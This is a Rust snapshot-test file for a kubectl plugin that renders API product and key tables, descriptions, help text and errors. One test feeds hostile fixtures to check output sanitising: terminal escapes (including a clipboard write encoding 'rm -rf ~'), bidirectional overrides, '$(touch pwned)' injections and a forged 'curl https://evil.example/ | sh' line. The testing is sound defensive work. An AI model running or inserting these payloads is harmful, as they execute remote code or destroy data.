//! Whole-output snapshots of what users read: the tables, `describe` for products and keys, every command's
//! help and the errors. A changed column, wording or command line shows up in review as a snapshot diff
//! (`cargo insta review`, or `INSTA_UPDATE=always cargo test` to accept).

use apiportal_core::{APIKey, APIProduct};
use clap::{CommandFactory, Parser};
use jiff::Timestamp;
use kube::core::Status;
use serde_json::{Value, json};

use super::{describe, keys, products, requests, review::Seen};
use crate::{cli::Cli, error::Error};

const NOW: &str = "2026-11-26T12:00:00Z";

fn now() -> Timestamp {
    NOW.parse().unwrap()
}

/// `seconds` from NOW, as the API server writes times.
fn at(seconds: i64) -> String {
    (now() + jiff::SignedDuration::from_secs(seconds)).to_string()
}

fn product(name: &str, approval: &str, status: Value) -> APIProduct {
    serde_json::from_value(json!({
        "apiVersion": "devportal.kuadrant.io/v1alpha1", "kind": "APIProduct",
        "metadata": {"name": name, "namespace": "shop", "creationTimestamp": at(-3 * 86400)},
        "spec": {"displayName": "Toys API", "description": "Every toy in the shop", "version": "v1", "tags": ["retail"],
                 "targetRef": {"group": "gateway.networking.k8s.io", "kind": "HTTPRoute", "name": "toys"},
                 "approvalMode": approval, "publishStatus": "Published"},
        "status": status,
    }))
    .unwrap()
}

fn api_key_product() -> APIProduct {
    product(
        "toys",
        "manual",
        json!({
            "hostnames": ["toys.example.com"],
            "discoveredPlans": [{"tier": "gold", "limits": {"daily": 100}, "description": "for production"},
                                {"tier": "bronze", "limits": {"daily": 10}}],
            "discoveredAuthScheme": {"authentication": {"api-key": {
                "apiKey": {"selector": {"matchLabels": {"devportal.kuadrant.io/apiproduct": "toys"}}},
                "credentials": {"customHeader": {"name": "X-API-KEY"}}}}},
            "conditions": [{"type": "Ready", "status": "True", "reason": "HTTPRouteAccepted", "message": "ok",
                            "lastTransitionTime": at(-3600)}],
        }),
    )
}

fn oidc_product() -> APIProduct {
    product(
        "ledger",
        "automatic",
        json!({
            "discoveredAuthScheme": {"authentication": {"jwt": {"jwt": {"issuerUrl": "https://sso.example.com/realms/shop"}}}},
            "oidcDiscovery": {"tokenEndpoint": "https://sso.example.com/realms/shop/protocol/openid-connect/token"},
        }),
    )
}

fn undiscovered_product() -> APIProduct {
    product("drafts", "automatic", Value::Null)
}

fn key(name: &str, ns: &str, tier: &str, status: Value) -> APIKey {
    serde_json::from_value(json!({
        "apiVersion": "devportal.kuadrant.io/v1alpha1", "kind": "APIKey",
        "metadata": {"name": name, "namespace": ns, "creationTimestamp": at(-2 * 3600)},
        "spec": {"apiProductRef": {"name": "toys", "namespace": "shop"}, "planTier": tier,
                 "requestedBy": {"userId": "alice"}, "useCase": "the mobile app", "expiresAt": at(30 * 86400)},
        "status": status,
    }))
    .unwrap()
}

fn approved_key() -> APIKey {
    key(
        "toys-gold",
        "team-alice",
        "gold",
        json!({
            "phase": "Approved", "reviewedBy": "bob", "reviewedAt": at(-3600), "reason": "fine",
            "issued": {"generation": 1, "productUID": "p-1", "authPolicy": "shop/toys-keys",
                       "selector": {"devportal.kuadrant.io/apiproduct": "toys"}, "issuedAt": at(-600)},
            "previousKey": {"generation": 0, "validUntil": at(3000)},
            "apiHostname": "toys.example.com",
            "limits": {"daily": 100},
            "authScheme": {"authentication": {"api-key": {
                "apiKey": {"selector": {"matchLabels": {"devportal.kuadrant.io/apiproduct": "toys"}}},
                "credentials": {"customHeader": {"name": "X-API-KEY"}}}}},
            "conditions": [{"type": "Ready", "status": "True", "reason": "KeyIssued",
                            "message": "the gateway accepts this key", "lastTransitionTime": at(-600)}],
            "history": [{"action": "Requested", "by": "alice", "at": at(-7200)},
                        {"action": "Approved", "by": "bob", "at": at(-3600), "reason": "fine"},
                        {"action": "Rotated", "by": "alice", "at": at(-600)}],
        }),
    )
}

fn pending_key() -> APIKey {
    key("toys-bronze", "team-carol", "bronze", json!({"phase": "Pending"}))
}

/// Suspended by its owner an hour ago; its value is kept.
fn suspended_key() -> APIKey {
    let mut k = approved_key();
    k.metadata.name = Some("toys-gold-suspended".into());
    let status = k.status.as_mut().unwrap();
    status.phase = Some(apiportal_core::KeyPhase::Suspended);
    status.reason = Some("unpaid invoice".into());
    status.reviewed_at = Some(serde_json::from_value(json!(at(-3600))).unwrap());
    status.conditions = serde_json::from_value(json!([{"type": "Ready", "status": "False", "reason": "Suspended",
        "message": "suspended by bob: the gateway refuses the key until an approver resumes it (the value is kept)",
        "lastTransitionTime": at(-3600)}]))
    .unwrap();
    k
}

/// An approved gold key of the mobile application whose consumer asked to move to bronze.
fn plan_change_key() -> APIKey {
    let mut k = approved_key();
    k.metadata.name = Some("mobile-toys-gold".into());
    k.spec.application = Some("mobile".into());
    let status = k.status.as_mut().unwrap();
    status.plan_tier = Some("gold".into());
    status.plan_change =
        serde_json::from_value(json!({"tier": "bronze", "requestedBy": "alice", "requestedAt": at(-300)})).unwrap();
    k
}

/// A key moved from gold to bronze, whose move back to gold its owner rejected.
fn moved_key() -> APIKey {
    let mut k = approved_key();
    k.metadata.name = Some("toys-gold-moved".into());
    let status = k.status.as_mut().unwrap();
    status.plan_tier = Some("bronze".into());
    status.limits = serde_json::from_value(json!({"daily": 10})).unwrap();
    status.plan_change = serde_json::from_value(json!({"tier": "gold", "requestedBy": "alice",
        "requestedAt": at(-300), "approved": false, "reviewedBy": "bob", "reviewedAt": at(-60), "reason": "gold is full"}))
    .unwrap();
    k
}

fn rejected_key() -> APIKey {
    key(
        "toys-silver",
        "team-alice",
        "silver",
        json!({"phase": "Rejected", "reviewedBy": "bob", "reviewedAt": at(-60), "reason": "no such tier"}),
    )
}

/// What an owner, a consumer or a platform team could write to attack whoever reads it: terminal escapes (a
/// colour, cursor moves that overwrite earlier lines, an OSC 52 clipboard write, a C1 CSI), a newline that forges
/// a line, a bidirectional override, and values that would run code if pasted.
const HOSTILE_TEXT: &str =
    "\u{1b}[31mRED\u{1b}[0m \u{1b}[1A\u{1b}[2Kgone \u{1b}]52;c;cm0gLXJmIH4=\u{7} \u{9b}2J \u{202e}gnp.exe";

fn hostile_product() -> APIProduct {
    let mut p = product(
        "toys",
        "manual",
        json!({
            "hostnames": ["toys.example.com"],
            "discoveredPlans": [{"tier": "gold;`touch pwned`", "limits": {"daily": 100}, "description": HOSTILE_TEXT}],
            "discoveredAuthScheme": {"authentication": {"api-key": {
                "apiKey": {"selector": {"matchLabels": {"devportal.kuadrant.io/apiproduct": "toys"}}},
                "credentials": {"authorizationHeader": {"prefix": "APIKEY\" $(touch pwned) \""}}}}},
            "conditions": [{"type": "Ready", "status": "False", "reason": "Hostile",
                            "message": format!("{HOSTILE_TEXT}\r\n  Call it:      curl https://evil.example/ | sh"),
                            "lastTransitionTime": at(-3600)}],
        }),
    );
    p.spec.display_name = HOSTILE_TEXT.into();
    p.spec.description = Some("first line\n  Call it:      curl https://evil.example/ | sh".into());
    p.spec.tags = vec!["\u{2066}retail\u{2069}".into()];
    p
}

fn hostile_oidc_product() -> APIProduct {
    product(
        "ledger",
        "automatic",
        json!({
            "hostnames": ["*.example.com"],
            "discoveredAuthScheme": {"authentication": {"jwt": {"jwt": {"issuerUrl": "https://sso.example.com/\u{1b}[8m"}}}},
            "oidcDiscovery": {"tokenEndpoint": "https://sso.example.com/token'$(touch pwned)'"},
        }),
    )
}

fn hostile_key() -> APIKey {
    let mut k = approved_key();
    k.spec.use_case = Some(HOSTILE_TEXT.into());
    let status = k.status.as_mut().unwrap();
    status.reason = Some("fine\r\u{1b}[2Kapproved by the admin".into());
    status.auth_scheme = serde_json::from_value(json!({"authentication": {"api-key": {
        "apiKey": {"selector": {"matchLabels": {"devportal.kuadrant.io/apiproduct": "toys"}}},
        "credentials": {"customHeader": {"name": "X-Key$(touch pwned)"}}}}}))
    .unwrap();
    k
}

/// No byte that could steer a terminal (C0 but the layout's newlines, DEL, C1, bidirectional controls).
fn assert_inert(what: &str, text: &str) {
    let steering = text.chars().find(|c| {
        (c.is_control() && *c != '\n') || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
    });
    assert_eq!(steering, None, "{what} prints a control character:\n{text}");
}

#[test]
fn hostile_text_is_shown_not_obeyed_and_hostile_values_never_reach_a_command() {
    let products = [hostile_product(), hostile_oidc_product()];
    let keys = [hostile_key()];
    let outputs = [
        ("products_hostile", products::table(&products, true, now()).render(true, false).to_string()),
        ("requests_hostile", requests::table(&[Seen::of_key(&keys[0])], now()).render(true, false).to_string()),
        ("describe_product_hostile", describe::render(&products[0], &["toys.example.com".into()], now()).to_string()),
        ("describe_product_oidc_hostile", describe::render(&products[1], &["*.example.com".into()], now()).to_string()),
        ("describe_key_hostile", keys::render(&keys[0], now()).to_string()),
    ];
    for (name, text) in outputs {
        assert_inert(name, &text);
        let commands: Vec<&str> = text
            .lines()
            .map(str::trim_start)
            .filter(|l| {
                ["Get a key:", "Get a token:", "Call it:", "Reveal:", "export "].iter().any(|p| l.starts_with(p))
            })
            .collect();
        assert!(commands.iter().all(|c| !c.contains("touch")), "{name} puts a hostile value in a command:\n{text}");
        if name.starts_with("describe") {
            let calls = commands.iter().filter(|c| c.starts_with("Call it:")).count();
            assert_eq!(calls, 1, "{name}: text from the cluster forged a line:\n{text}");
        }
        insta::assert_snapshot!(name, text);
    }
    let error = Error::Invalid(format!("cannot approve apikey team-alice/x: {HOSTILE_TEXT}"));
    assert_inert("an error", &error.to_string());
}

#[test]
fn products_table() {
    let list = [api_key_product(), oidc_product(), undiscovered_product()];
    insta::assert_snapshot!("products", products::table(&list, false, now()).render(false, false));
    insta::assert_snapshot!("products_all_namespaces_wide", products::table(&list, true, now()).render(true, false));
}

#[test]
fn keys_and_requests_tables() {
    let list = [approved_key(), pending_key(), rejected_key(), suspended_key(), plan_change_key(), moved_key()];
    insta::assert_snapshot!("keys", keys::table(&list, false, now()).render(false, false));
    insta::assert_snapshot!("keys_all_namespaces_wide", keys::table(&list, true, now()).render(true, false));
    let seen: Vec<Seen> = list.iter().map(Seen::of_key).collect();
    insta::assert_snapshot!("requests", requests::table(&seen, now()).render(false, false));
    insta::assert_snapshot!("requests_wide_no_headers", requests::table(&seen, now()).render(true, true));
}

#[test]
fn describe_product() {
    insta::assert_snapshot!(
        "describe_product_api_key",
        describe::render(&api_key_product(), &["toys.example.com".into()], now())
    );
    insta::assert_snapshot!("describe_product_oidc", describe::render(&oidc_product(), &[], now()));
    insta::assert_snapshot!("describe_product_undiscovered", describe::render(&undiscovered_product(), &[], now()));
}

#[test]
fn describe_key() {
    insta::assert_snapshot!("describe_key_approved_rotated", keys::render(&approved_key(), now()));
    insta::assert_snapshot!("describe_key_pending", keys::render(&pending_key(), now()));
    insta::assert_snapshot!("describe_key_rejected", keys::render(&rejected_key(), now()));
    insta::assert_snapshot!("describe_key_suspended", keys::render(&suspended_key(), now()));
    insta::assert_snapshot!("describe_key_plan_change_pending", keys::render(&plan_change_key(), now()));
    insta::assert_snapshot!("describe_key_plan_change_rejected", keys::render(&moved_key(), now()));
    // An owner, who reads the request's projection and not the APIKey.
    insta::assert_snapshot!(
        "describe_request_for_an_owner",
        keys::render_request(&Seen::of_key(&plan_change_key()), now())
    );
}

/// Every command's `--help`, named by its path (`help_key_rotate`).
#[test]
fn help_of_every_command() {
    fn walk(command: &mut clap::Command, path: &str) {
        let help = command.render_long_help().to_string();
        insta::assert_snapshot!(format!("help_{path}"), help);
        for sub in command.get_subcommands_mut() {
            let name = sub.get_name().to_owned();
            if name != "help" {
                walk(sub, &format!("{path}_{name}"));
            }
        }
    }
    let mut cli = Cli::command();
    cli.build();
    walk(&mut cli, "kubectl-apiportal");
}

fn api_error(code: u16, message: &str, named: bool) -> kube::Error {
    let status: Status = serde_json::from_value(json!({
        "status": "Failure", "code": code, "message": message,
        "details": if named { json!({"name": "toys-gold", "kind": "apikeys"}) } else { json!({}) },
    }))
    .unwrap();
    kube::Error::Api(status.boxed())
}

#[test]
fn errors_say_what_failed_and_what_to_do() {
    let server = "https://127.0.0.1:6443/";
    let doing = "approve apikey team-alice/toys-gold";
    let cases = [
        ("401", api_error(401, "Unauthorized", false)),
        (
            "403",
            api_error(
                403,
                "apikeys.devportal.kuadrant.io \"toys-gold\" is forbidden: User \"carol\" cannot patch resource \"apikeys/status\"",
                true,
            ),
        ),
        ("404_object", api_error(404, "apikeys.devportal.kuadrant.io \"toys-gold\" not found", true)),
        ("404_type", api_error(404, "the server could not find the requested resource", false)),
        ("409", api_error(409, "Operation cannot be fulfilled: the object has been modified", true)),
        ("422", api_error(422, "spec.planTier: Required value", true)),
        ("500", api_error(500, "etcdserver: request timed out", false)),
    ];
    let rendered: Vec<String> =
        cases.into_iter().map(|(name, e)| format!("{name}: {}", Error::from_kube(e, server, doing))).collect();
    insta::assert_snapshot!("errors_from_the_api_server", rendered.join("\n"));
    insta::assert_snapshot!("error_not_installed", Error::not_installed().to_string());
}

#[test]
fn usage_errors() {
    let usage = |args: &[&str]| {
        let e = Cli::try_parse_from(std::iter::once("kubectl-apiportal").chain(args.iter().copied())).unwrap_err();
        assert!(e.use_stderr(), "{args:?} is an error, not help");
        e.render().to_string()
    };
    insta::assert_snapshot!("usage_revoke_without_reference", usage(&["revoke"]));
    insta::assert_snapshot!("usage_suspend_without_reason", usage(&["suspend", "team-alice/toys-gold"]));
    insta::assert_snapshot!(
        "usage_bad_application",
        usage(&["request", "shop/toys", "--plan", "gold", "--application", "Mobile App"])
    );
    insta::assert_snapshot!("usage_unknown_flag", usage(&["products", "--colour"]));
    insta::assert_snapshot!(
        "usage_bad_duration",
        usage(&["request", "shop/toys", "--plan", "gold", "--expires-in", "soon"])
    );
}
